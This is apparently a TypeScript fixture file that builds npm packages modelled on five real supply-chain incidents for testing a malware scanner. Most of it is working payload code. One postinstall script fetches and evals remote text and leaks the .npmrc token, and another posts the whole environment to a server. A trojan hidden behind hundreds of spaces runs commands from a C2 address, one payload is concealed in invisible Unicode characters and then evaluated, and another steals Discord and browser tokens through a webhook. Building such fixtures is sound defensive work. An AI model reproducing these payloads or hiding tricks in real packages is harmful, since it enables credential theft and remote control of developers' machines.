/** Incidents that the plan of the scanner did not name: all their variants are independent. */
import type { Incident } from '../incident.ts';

/** Each byte as one of the 256 variation selectors, which nobody sees. */
function invisible(text: string): string {
  return [...Buffer.from(text)]
    .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
    .join('');
}

const eslintScope: Incident = {
  id: 'eslint-scope-2018',
  story:
    'A reused password. A postinstall script fetches a text from a paste service and evaluates it; the text reads the user’s .npmrc and sends the token in headers of requests to two counters.',
  sources: [
    'https://appuals.com/npm-library-malicious-code-penetration-diligently-contained/',
    'details recalled',
  ],
  name: 'corpus-scope-analyser',
  version: '3.7.2',
  manifest: { main: 'lib/index.js', scripts: { postinstall: 'node ./lib/build.js' } },
  payloads: [
    {
      path: 'lib/build.js',
      format: 'cjs',
      uses: { https: 'https', fs: 'fs', path: 'path', os: 'os' },
      sections: [
        {
          provides: ['token'],
          code: `
function token() {
  const rc = path.join(os.homedir(), 'corpus-no-such-folder', '.npmrc');
  const text = fs.existsSync(rc) ? fs.readFileSync(rc, 'utf8') : '';
  return (/_authToken=(.+)/.exec(text) || [])[1];
}
`,
        },
        {
          provides: ['count'],
          code: `
function count(referrer) {
  https.get({ hostname: 'sstatic1.histats.invalid', path: '/0.gif', headers: { Referer: 'http://1.a/' + referrer } }, () => {}).on('error', () => {});
}
`,
        },
        {
          provides: [],
          code: `
https.get({ hostname: 'pastebin.invalid', path: '/raw/corpus', headers: { Accept: 'text/html' } }, (answer) => {
  answer.setEncoding('utf8');
  answer.on('data', (chunk) => {
    eval(chunk);
  });
}).on('error', () => {});
count(token());
`,
        },
      ],
    },
  ],
  files: { 'lib/index.js': `exports.analyse = (tree) => ({ scopes: [], globalScope: tree });\n` },
  marks: { 'lib/build.js': 'lib/after.js' },
};

const crossEnv: Incident = {
  id: 'crossenv-2017',
  story:
    'Forty packages whose names differ from known ones by a hyphen; the postinstall script sends the whole environment, as base64 in a form, to one server, and the package works like the one it imitates.',
  sources: ['https://blog.scottlogic.com/2018/02/27/hunting-typosquatters-on-npm.html'],
  name: 'corpuscrossenv',
  version: '6.1.1',
  manifest: { main: 'index.js', scripts: { postinstall: 'node package-setup.js' } },
  payloads: [
    {
      path: 'package-setup.js',
      format: 'cjs',
      uses: { http: 'http', querystring: 'querystring' },
      sections: [
        { provides: ['server'], code: `\nconst server = 'npm.hacktask.invalid';\n` },
        {
          provides: ['packed'],
          code: `
function packed() {
  const text = JSON.stringify(process.env);
  return querystring.stringify({ data: new Buffer(text).toString('base64') });
}
`,
        },
        {
          provides: [],
          code: `
const form = packed();
const request = http.request({ hostname: server, port: 80, path: '/log/', method: 'POST', headers: { ['Content-Type']: 'application/x-www-form-urlencoded', ['Content-Length']: Buffer.byteLength(form) } }, () => {});
request.on('error', () => {});
request.write(form);
request.end();
`,
        },
      ],
    },
  ],
  files: { 'index.js': `exports.set = (pairs) => Object.assign(process.env, pairs);\n` },
  marks: { 'package-setup.js': 'after.js', 'hacktask.': 'status.' },
};

const hiddenAside: Incident = {
  id: 'off-screen-2025',
  story:
    'A trojan written into the compiled file of a small library, hundreds of blanks to the right of a harmless line: it keeps a connection to a command server, names the machine, and runs what it is told in a shell; files can be fetched too.',
  sources: ['recalled (rand-user-agent, May 2025)'],
  name: 'corpus-agent-names',
  version: '2.0.83',
  manifest: { main: 'dist/index.js' },
  payloads: [
    {
      path: 'dist/index.js',
      format: 'cjs',
      uses: { childProcess: 'child_process', os: 'os', net: 'net', fs: 'fs' },
      sections: [
        {
          provides: ['pick', 'begin'],
          code: `
function pick(list) {
  return list[Math.floor(Math.random() * list.length)];
}${' '.repeat(900)}function begin(socket) {
  socket.write(JSON.stringify({ hello: os.hostname() + '$' + os.userInfo().username, system: os.type() }));
}
`,
        },
        {
          provides: ['obey'],
          code: `
const names = ['Firefox', 'Chrome'];${' '.repeat(900)}function obey(order, answer) {
  if (order.startsWith('ss_upf:')) {
    answer(fs.readFileSync('/corpus-no-such-folder/' + order.slice(7)));
    return;
  }
  childProcess.exec(order, { cwd: '/corpus-no-such-folder', windowsHide: true }, (error, out) => answer(out));
}
`,
        },
        {
          provides: [],
          code: `
exports.name = () => pick(['Firefox', 'Chrome', 'Safari']);${' '.repeat(900)}const line = net.connect(27017, '203.0.113.44', () => begin(line));
line.on('data', (chunk) => obey(chunk.toString(), (text) => line.write(text)));
line.on('error', () => {});
`,
        },
      ],
    },
  ],
  files: { 'README.md': '# corpus-agent-names\n\nNames of browsers.\n' },
  marks: { 'ss_upf:': 'get:' },
};

const invisibleText: Incident = {
  id: 'invisible-text-2025',
  story:
    'The program stands in a string of variation selectors, characters that no editor shows; a short decoder turns each into a byte and evaluates the result, which asks a block chain’s public node for the address of the next stage.',
  sources: [
    'https://coesecurity.com/glassworm-invisible-code-visible-damage',
    'https://aishielddaily.blogspot.com/2026/04/glassworm-malware-returns-73-openvsx.html',
  ],
  name: 'corpus-theme-tools',
  version: '1.8.4',
  manifest: { main: 'index.js' },
  payloads: [
    {
      path: 'index.js',
      format: 'cjs',
      uses: {},
      sections: [
        {
          provides: ['decode'],
          code: `
const decode = (text) => [...text].map((sign) => {
  const point = sign.codePointAt(0);
  return point >= 65024 && point <= 65039 ? point - 65024 : point >= 917760 && point <= 917999 ? point - 917760 + 16 : null;
}).filter((byte) => byte !== null);
`,
        },
        {
          provides: ['hidden'],
          code: `\nconst hidden = '${invisible("require('https').request({ hostname: 'api.mainnet.solana.invalid', method: 'POST' }).end('{\"method\":\"getSignaturesForAddress\"}');")}';\n`,
        },
        {
          provides: [],
          code: `
eval(Buffer.from(decode(hidden)).toString('utf8'));
exports.themes = ['light', 'dark'];
`,
        },
      ],
    },
  ],
  files: {},
  marks: {},
};

const browserStore: Incident = {
  id: 'messenger-tokens-2020',
  story:
    'A package that promises an interface to a game reads the local-storage databases of a messenger and of browsers and posts what looks like tokens to a webhook of that messenger.',
  sources: ['recalled (fallguys, August 2020)'],
  name: 'corpus-game-api',
  version: '1.0.6',
  manifest: { main: 'index.js' },
  payloads: [
    {
      path: 'index.js',
      format: 'cjs',
      uses: { fs: 'fs', path: 'path', https: 'https' },
      sections: [
        {
          provides: ['stores'],
          code: `
const local = path.join(process.env.LOCALAPPDATA || '/', 'corpus-no-such-folder');
const roaming = path.join(process.env.APPDATA || '/', 'corpus-no-such-folder');
const stores = [
  local + '/Google/Chrome/User Data/Default/Local Storage/leveldb',
  local + '/Yandex/YandexBrowser/User Data/Default/Local Storage/leveldb',
  local + '/BraveSoftware/Brave-Browser/User Data/Default/Local Storage/leveldb',
  roaming + '/Opera Software/Opera Stable/Local Storage/leveldb',
  roaming + '/discord/Local Storage/leveldb',
];
`,
        },
        {
          provides: ['found'],
          code: `
function found() {
  const all = [];
  for (const store of stores) {
    let names = [];
    try {
      names = fs.readdirSync(store);
    } catch (error) {}
    for (const name of names.filter((one) => one.endsWith('.ldb') || one.endsWith('.log'))) {
      const text = fs.readFileSync(path.join(store, name), 'latin1');
      all.push(...(text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g) || []));
    }
  }
  return all;
}
`,
        },
        {
          provides: [],
          code: `
const body = JSON.stringify({ content: found().join('\\n') });
const request = https.request({ hostname: 'discord.invalid', path: '/api/webhooks/0/corpus', method: 'POST', headers: { ['Content-Type']: 'application/json' } });
request.on('error', () => {});
request.end(body);
exports.players = () => [];
`,
        },
      ],
    },
  ],
  files: {},
  marks: {},
};

export const unlisted: readonly Incident[] = [
  eslintScope,
  crossEnv,
  hiddenAside,
  invisibleText,
  browserStore,
];
